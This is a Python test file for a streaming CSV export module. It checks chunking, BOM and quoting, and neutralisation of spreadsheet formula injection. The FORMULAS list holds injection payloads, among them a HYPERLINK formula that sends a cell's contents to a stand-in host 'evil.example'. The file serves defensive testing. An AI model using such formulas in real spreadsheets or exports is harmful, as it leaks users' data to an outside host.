"""Streamed CSV: the chunks join to exactly what one csv.writer would write."""

from __future__ import annotations

import csv
import doctest
import io

from trygg.reports import csv_stream
from trygg.reports.csv_stream import csv_chunks


def test_chunks_join_to_the_whole_table_with_bom_and_quoting() -> None:
    rows = [[i, f"Rad {i}, med komma och \"citat\"", "åäö"] for i in range(5000)]
    chunks = list(csv_chunks(["id", "text", "ord"], rows, bom=True))
    assert len(chunks) > 1  # streamed, not built in one piece
    expected = io.StringIO()
    expected.write("\ufeff")
    writer = csv.writer(expected)
    writer.writerow(["id", "text", "ord"])
    writer.writerows(rows)
    assert "".join(chunks) == expected.getvalue()


def test_an_empty_export_is_just_the_header() -> None:
    assert "".join(csv_chunks(["a"], [], lineterminator="\n")) == "a\n"


def test_docstring_examples_run() -> None:
    assert doctest.testmod(csv_stream).failed == 0


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klicka")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1",
            "\r=1+1", "\uff1d1+1"]


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
    rows = [[i, text] for i, text in enumerate(FORMULAS)] + [[-5, "-"], [7, "Vanlig text"], [8, 2.5]]
    text = "".join(csv_chunks(["n", "text"], rows, lineterminator="\n"))
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    cells = [row[1] for row in parsed[1:len(FORMULAS) + 1]]
    assert cells == ["'" + text for text in FORMULAS]
    assert parsed[-3] == ["-5", "'-"]
    assert parsed[-2:] == [["7", "Vanlig text"], ["8", "2.5"]]


def test_safe_writer_neutralises_like_the_stream() -> None:
    buf = io.StringIO()
    csv_stream.safe_writer(buf, lineterminator="\n").writerow(["=1", 3, "ok"])
    assert buf.getvalue() == "'=1,3,ok\n"


def test_a_yielded_chunk_holds_every_row_taken_so_far() -> None:
    taken: list[int] = []

    def rows():  # type: ignore[no-untyped-def]
        for i in range(3000):
            taken.append(i)
            yield [i, "x" * 40]

    chunks = 0
    for chunk in csv_chunks(["n", "t"], rows()):
        chunks += 1
        if chunk:
            last_row = chunk.rstrip("\r\n").rsplit("\r\n", 1)[-1]
            assert int(last_row.split(",")[0]) == taken[-1]  # the chunk ends with the last row taken
    assert chunks > 1 and taken[-1] == 2999
